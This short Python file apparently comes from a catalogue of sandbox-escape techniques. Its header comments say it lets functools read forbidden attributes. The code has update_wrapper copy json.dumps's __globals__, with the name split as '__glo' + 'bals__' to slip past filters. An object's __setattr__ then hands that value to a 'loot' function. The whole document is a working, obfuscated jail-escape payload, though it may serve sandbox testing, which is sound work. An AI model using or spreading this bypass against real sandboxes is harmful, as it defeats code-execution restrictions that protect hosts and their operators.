# aim: let functools read forbidden attributes and store them on an object of the program's
# mechanism: update_wrapper copies the attributes it is told to, with the real getattr
# language: builtins
# reason: the library reads names that the program chose
# jail: process
# plain: loot

import functools
import json


class Catcher:
    def __setattr__(self, name, value):
        loot(value)


functools.update_wrapper(Catcher(), json.dumps, assigned=("__glo" + "bals__",), updated=())
